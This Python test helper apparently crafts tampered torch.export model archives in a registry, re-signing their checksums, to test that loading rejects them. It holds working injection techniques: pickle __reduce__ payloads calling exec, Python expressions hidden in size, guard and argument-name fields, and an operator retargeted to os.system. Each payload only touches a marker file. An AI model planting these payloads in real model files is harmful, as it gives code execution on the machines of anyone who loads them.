"""Published programs that were changed by a writer of the registry, sizes and checksums renewed."""

from __future__ import annotations

import hashlib
import io
import json
import pickle
import zipfile
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import xxhash

from sparserow.proto.published.registry import ModelRegistry

Entries = dict[str, bytes]
MODEL = "models/model.json"
WEIGHTS = "data/weights/model_weights_config.json"
CONSTANTS = "data/constants/model_constants_config.json"


class Bomb:
    """Makes a file where it is unpickled."""

    def __init__(self, marker: Path) -> None:
        self._marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return (exec, (f"open({str(self._marker)!r}, 'w').close()",))


def example_inputs(entries: Entries, marker: Path) -> None:
    """Pickled example inputs, as torch.export.load reads them."""
    entries["data/sample_inputs/model.pt"] = pickle.dumps(Bomb(marker))


def pickled_weight(entries: Entries, marker: Path) -> None:
    """The first weight is marked as pickled."""
    config = json.loads(entries[WEIGHTS])
    payload = next(iter(config["config"].values()))
    payload["use_pickle"] = True
    entries[f"data/weights/{payload['path_name']}"] = pickle.dumps(Bomb(marker))
    entries[WEIGHTS] = json.dumps(config).encode()


def opaque_constant(entries: Entries, marker: Path) -> None:
    """A constant of another kind, which is unpickled whatever it is."""
    payload = {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True, "tensor_meta": None}
    entries["data/constants/opaque_obj_0"] = pickle.dumps(Bomb(marker))
    entries[CONSTANTS] = json.dumps({"config": {"x": payload}}).encode()


def legacy_weights(entries: Entries, marker: Path) -> None:
    """All weights as one pickle, as older archives have them."""
    entries["data/weights/model.pt"] = pickle.dumps(Bomb(marker))


def expression(entries: Entries, marker: Path) -> None:
    """A size that is an expression of Python, which sympy evaluates."""
    code = f"__import__('pathlib').Path({str(marker)!r}).touch() or 1"
    change_model(entries, lambda model: first_size(model).update(expr_str=code))


def guard(entries: Entries, marker: Path) -> None:
    """A guard that is called with every batch."""
    code = f"__import__('pathlib').Path({str(marker)!r}).touch() is None"
    change_model(entries, lambda model: model.update(guards_code=[code]))


def operator(entries: Entries, marker: Path) -> None:
    """An operator that is a function of Python, found through torch."""

    def change(model: Any) -> None:
        node = next(node for node in model["graph_module"]["graph"]["nodes"] if "relu" in node["target"])
        node["target"] = "torch.os.system"
        node["inputs"] = [{"name": "command", "arg": {"as_string": f"touch {marker}"}, "kind": 1}]

    change_model(entries, change)


def argument_name(entries: Entries, marker: Path) -> None:
    """The name of an argument, which goes into generated code."""

    def change(model: Any) -> None:
        signature = model["graph_module"]["module_call_graph"][0]["signature"]
        signature["forward_arg_names"][0] = f"user=open({str(marker)!r}, 'w')"

    change_model(entries, change)


def native_library(entries: Entries, marker: Path) -> None:
    """A library of AOTInductor, which would be loaded beside the program."""
    entries["data/aotinductor/model/model.so"] = b"\x7fELF" + bytes(100)


def size_of_range(entries: Entries, marker: Path) -> None:
    """The name of a size, in the place of which an expression of other sizes may stand."""
    code = f"__import__('pathlib').Path({str(marker)!r}).touch() or s0 + 1"
    change_model(entries, lambda model: model["range_constraints"].update({code: {"min_val": 1, "max_val": 9}}))


ATTACKS: tuple[Callable[[Entries, Path], None], ...] = (
    *(example_inputs, pickled_weight, opaque_constant, legacy_weights),
    *(expression, guard, operator, argument_name, native_library, size_of_range),
)


def first_size(model: Any) -> dict[str, Any]:
    """The first size of the model that is an expression."""
    waiting = [model["graph_module"]["graph"]["tensor_values"]]
    while waiting:
        value = waiting.pop()
        if isinstance(value, dict):
            if "expr_str" in value:
                return value
            waiting.extend(value.values())
        elif isinstance(value, list):
            waiting.extend(value)
    raise AssertionError("the program has no size that varies")


def change_model(entries: Entries, change: Callable[[Any], None]) -> None:
    """Changes the program's JSON."""
    model = json.loads(entries[MODEL])
    change(model)
    entries[MODEL] = json.dumps(model).encode()


def read_entries(data: bytes) -> Entries:
    """Entries of an archive, by name without its root."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name.partition("/")[2]: archive.read(name) for name in archive.namelist()}


def write_entries(entries: Entries, compression: int = zipfile.ZIP_STORED) -> bytes:
    """An archive of entries."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, content in entries.items():
            archive.writestr(f"archive/{name}", content)
    return out.getvalue()


def craft(root: str, name: str, version: int, attack: Callable[[Entries, Path], None], marker: Path) -> None:
    """Changes a published program in its place."""
    folder = Path(root) / name / f"v{version:06d}"
    entries = read_entries((folder / "program.pt2").read_bytes())
    attack(entries, marker)
    replace_program(root, name, version, write_entries(entries))


def replace_program(root: str, name: str, version: int, data: bytes) -> None:
    """Puts other bytes in a program's place, with the size and checksums that they have."""
    folder = Path(root) / name / f"v{version:06d}"
    (folder / "program.pt2").write_bytes(data)
    manifest = ModelRegistry(root).manifest(name, version)
    assert manifest.program is not None
    sha256 = hashlib.sha256(data).hexdigest()
    program = replace(manifest.program, bytes=len(data), xxh3=xxhash.xxh3_64_hexdigest(data), sha256=sha256)
    (folder / "manifest.json").write_bytes(replace(manifest, program=program).to_json())
